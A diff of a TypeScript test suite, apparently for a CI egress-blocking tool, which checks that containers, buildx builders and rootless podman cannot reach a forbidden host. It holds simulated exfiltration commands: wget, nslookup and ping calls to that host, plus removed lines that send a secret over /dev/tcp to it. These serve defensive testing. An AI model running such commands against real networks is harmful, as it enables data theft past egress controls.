@@ -1,18 +1,19 @@
 // T30 to T40: containers, and what else makes networks and namespaces on a runner. Process ids are those of the machine
 // under the tests: a case names only those of its own world, and never process 1.
-import { ALLOWED, FORBIDDEN, GATEWAY, IMAGE, PLACES, RUNNER } from "@lockstep/testkit/privileged";
+import { ALLOWED, FORBIDDEN, GATEWAY, IMAGE, RUNNER } from "@lockstep/testkit/privileged";
 import { attack } from "../attack.ts";
+import { buildInContainer, POWERS, placeBuildx } from "../buildx.ts";
 import type { Case } from "../case.ts";
 import { askedForEvil, either, fileExists, flowTo, reachedEvil } from "../harm.ts";
+import { prepareRootless, rootless } from "../rootless.ts";
 
 const EVIL = FORBIDDEN.a;
 /** By address, by name, and a name to a resolver of the container's choice. */
 const TRY = `timeout 3 wget -qO- http://${EVIL}/; timeout 3 wget -qO- http://x.${FORBIDDEN.name}/; nslookup y.${FORBIDDEN.name} 8.8.8.8; ping -c 1 -W 1 ${EVIL}`;
+/** The same in a build, which ends at the first failure otherwise. */
+const BUILT = `${TRY.replaceAll("; ", " || ")} || true`;
 const HARM = either(reachedEvil, askedForEvil);
 
-/** What `--privileged` gives that matters here; some virtual machines have not all of what it asks for. */
-const POWERS =
-  "--cap-add NET_ADMIN --cap-add SYS_ADMIN --cap-add SYS_PTRACE --security-opt seccomp=unconfined --security-opt apparmor=unconfined";
 /**
  * As root of a container with the host's programs: a namespace behind it, translated as container engines do. It enters
  * nothing by process id: the host's /proc counts otherwise than the container does.
@@ -63,13 +64,20 @@ export const CONTAINER_CASES: readonly Case[] = [
     id: "T33",
     title: "A builder in a container (buildx, docker-container driver), and plain builds",
     outcome: "prevented",
-    why: "Played by a build, and by a privileged container that routes for a namespace of its own.",
+    why: "Played by buildx with the builder of Docker's daemon, and with BuildKit in a container.",
     run: attack({
       docker: true,
-      act: `
-printf 'FROM ${IMAGE}\\nRUN ${TRY.replaceAll("; ", " || ")} || true\\n' > Dockerfile
+      before: placeBuildx,
+      act: (world) =>
+        world.job.step(
+          "attack",
+          `
+printf 'FROM ${IMAGE}\\nRUN ${BUILT}\\n' > Dockerfile
 docker build --no-cache . || true
-${NESTED}`,
+docker buildx build --no-cache . || true
+${buildInContainer(BUILT)} || true`,
+          { timeoutMs: 100_000 },
+        ),
       harm: HARM,
     }),
   },
@@ -92,14 +100,12 @@ ${NESTED}`,
     id: "T35",
     title: "Rootless containers, whose network is an ordinary process of the user",
     outcome: "prevented",
-    why: "Played by a process in a network namespace of its own user namespace that has a socket of the host's handed in.",
+    why: "Played by podman with slirp4netns.",
     run: attack({
-      act: `
-mkfifo ${PLACES.temporary}/in ${PLACES.temporary}/out
-( exec 3<>/dev/tcp/${EVIL}/4444; cat ${PLACES.temporary}/in >&3 & timeout 2 cat <&3 > ${PLACES.temporary}/out ) &
-unshare --user --map-root-user --net sh -c 'echo secret > ${PLACES.temporary}/in'
-timeout 2 cat ${PLACES.temporary}/out || true`,
-      harm: reachedEvil,
+      before: prepareRootless,
+      act: (world) => world.job.step("attack", rootless(`${TRY}; true`), { timeoutMs: 60_000 }),
+      harm: HARM,
+      sign: ({ report }) => report.blocked.some(({ program }) => program === "/usr/bin/slirp4netns"),
     }),
   },
   {
